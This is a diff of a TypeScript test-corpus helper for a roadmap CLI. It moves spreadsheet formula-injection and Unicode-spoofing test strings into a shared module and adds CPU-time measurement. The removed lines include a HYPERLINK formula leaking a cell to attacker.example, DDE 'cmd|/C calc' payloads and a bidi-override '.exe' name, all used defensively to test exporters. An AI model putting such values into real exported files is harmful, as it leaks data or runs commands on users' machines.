@@ -1,12 +1,12 @@
 import { spawn } from "node:child_process";
 import { readFile, rm, writeFile } from "node:fs/promises";
 import path from "node:path";
-import { fileURLToPath } from "node:url";
 import { LIMITS } from "../../shared/model/limits";
 import { MAX_ROADMAP_FILE_BYTES, serializeRoadmap } from "../../shared/model/roadmapFile";
 import type { Roadmap } from "../../shared/model/schema";
 import { createB2bSubscriptionRoadmap } from "../../shared/model/templates/b2bSubscriptionSoftware";
 import { generateRoadmap } from "../../shared/model/testing/generateRoadmap";
+import { everyText, FORMULA_INJECTIONS, TRICKY_NAMES } from "../../shared/model/testing/hostileText";
 
 /**
  * Crafted `.roadmap` files for the command line and the diagram export: each
@@ -20,26 +20,6 @@ export interface CorpusFile {
   about: string;
   expect: { refused: true; field?: string } | { refused: false };
 }
-
-/** Text a spreadsheet would run as a formula, or that calendar-to-sheet conversions pass on. */
-export const FORMULA_INJECTIONS = [
-  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
-  "+cmd|' /C calc'!A0",
-  "-1+1",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "\t=1+1",
-  "\r=1+1",
-] as const;
-
-/** Names that read fine and print as something else: control characters, bidi overrides, lone surrogates. */
-const TRICKY_NAMES = [
-  "Bell\u0007 and escape\u001b[31m red",
-  "Invoice \u202Egnp.exe",
-  "Isolate \u2066abc\u2069 end",
-  "NUL \u0000 inside",
-  "Lone \uD800 surrogate",
-  "Zero\u200Bwidth\uFEFFjoiners",
-];
 
 const NOW = new Date("2027-01-01T00:00:00.000Z");
 
@@ -146,13 +126,13 @@ export async function writeCorpus(dir: string): Promise<CorpusFile[]> {
     "formula-names.roadmap",
     "formula injection in every name and text field",
     accepted,
-    json(injected(template())),
+    json(everyText(template(), FORMULA_INJECTIONS)),
   );
   await add(
     "control-characters.roadmap",
     "control characters and bidi overrides in names",
     accepted,
-    json(tricky(template())),
+    json(everyText(template(), TRICKY_NAMES)),
   );
   await add(
     "name-too-long.roadmap",
@@ -353,48 +333,6 @@ function withPhase(roadmap: Roadmap, index: number, edit: (phase: Roadmap["phase
   return { ...roadmap, phases: roadmap.phases.map((phase, i) => (i === index ? edit(phase) : phase)) };
 }
 
-/** Every name and free text of the roadmap replaced by one of `texts`, in turn. */
-function everyText(roadmap: Roadmap, texts: readonly string[]): Roadmap {
-  let turn = 0;
-  const next = () => texts[turn++ % texts.length] as string;
-  return {
-    ...roadmap,
-    name: next(),
-    client: next(),
-    preparedBy: next(),
-    notes: next(),
-    stages: roadmap.stages.map((stage) => ({ ...stage, name: next(), description: next() })),
-    phases: roadmap.phases.map((phase) => ({
-      ...phase,
-      name: next(),
-      description: next(),
-      customerLifestage: next(),
-      objectives: [next()],
-      productsHeld: [next()],
-      kpis: phase.kpis.map((kpi) => ({ ...kpi, name: next(), unit: next().slice(0, 40), timeframe: next() })),
-    })),
-    transitions: roadmap.transitions.map((transition) => ({ ...transition, trigger: next() })),
-    segments: roadmap.segments.map((segment) => ({ ...segment, name: next() })),
-    owners: roadmap.owners.map((owner) => ({ ...owner, name: next() })),
-    channels: roadmap.channels.map((channel) => ({ ...channel, name: next() })),
-    roles: roadmap.roles.map((role) => ({ ...role, name: next() })),
-    communications: roadmap.communications.map((communication) => ({ ...communication, name: next(), notes: next() })),
-  };
-}
-
-function injected(roadmap: Roadmap): Roadmap {
-  return everyText(roadmap, FORMULA_INJECTIONS);
-}
-
-function tricky(roadmap: Roadmap): Roadmap {
-  return everyText(roadmap, TRICKY_NAMES);
-}
-
-/** A roadmap whose every name and text field is a formula injection string, for the exporters' own tests. */
-export function formulaInjectedRoadmap(): Roadmap {
-  return injected(createB2bSubscriptionRoadmap(NOW));
-}
-
 export interface MeasuredRun {
   code: number | null;
   signal: NodeJS.Signals | null;
@@ -404,18 +342,23 @@ export interface MeasuredRun {
   ms: number;
   /** The command's peak resident memory; null when it died before it could say. */
   maxRssMb: number | null;
+  /** CPU time (user and system) the command used: its cost, however busy the machine was; null as above. */
+  cpuMs: number | null;
 }
 
-const bin = fileURLToPath(new URL("../../bin/roadmap.mjs", import.meta.url));
-const usageReporter = fileURLToPath(new URL("./reportUsage.mjs", import.meta.url));
 /** The issue's memory budget for one command, as V8's heap limit: a command that needs more dies rather than swaps. */
 export const HEAP_LIMIT_MB = 1536;
 
-/** Runs `roadmap ARGS…` as a user does, in its own Node, and measures its time and peak memory. */
+/**
+ * Runs `roadmap ARGS…` as a user does, in its own Node, and measures its time
+ * and peak memory. `root` is the checkout (this module may run bundled elsewhere).
+ */
 export async function runMeasured(
   args: readonly string[],
-  options: { cwd: string; timeoutMs: number },
+  options: { root: string; cwd: string; timeoutMs: number },
 ): Promise<MeasuredRun> {
+  const bin = path.join(options.root, "bin", "roadmap.mjs");
+  const usageReporter = path.join(options.root, "cli", "testing", "reportUsage.mjs");
   const usageFile = path.join(options.cwd, `.usage-${process.pid}-${Math.random().toString(36).slice(2)}.json`);
   const startedAt = performance.now();
   const child = spawn(
@@ -438,8 +381,11 @@ export async function runMeasured(
   });
   const ms = performance.now() - startedAt;
   let maxRssMb: number | null = null;
+  let cpuMs: number | null = null;
   try {
-    maxRssMb = (JSON.parse(await readFile(usageFile, "utf8")) as { maxRssKb: number }).maxRssKb / 1024;
+    const usage = JSON.parse(await readFile(usageFile, "utf8")) as { maxRssKb: number; cpuMs: number };
+    maxRssMb = usage.maxRssKb / 1024;
+    cpuMs = usage.cpuMs;
   } catch {
     // The command died (out of memory, killed at the timeout) before its exit handler ran.
   }
@@ -451,6 +397,7 @@ export async function runMeasured(
     stderr: Buffer.concat(stderr).toString("utf8"),
     ms,
     maxRssMb,
+    cpuMs,
   };
 }
 
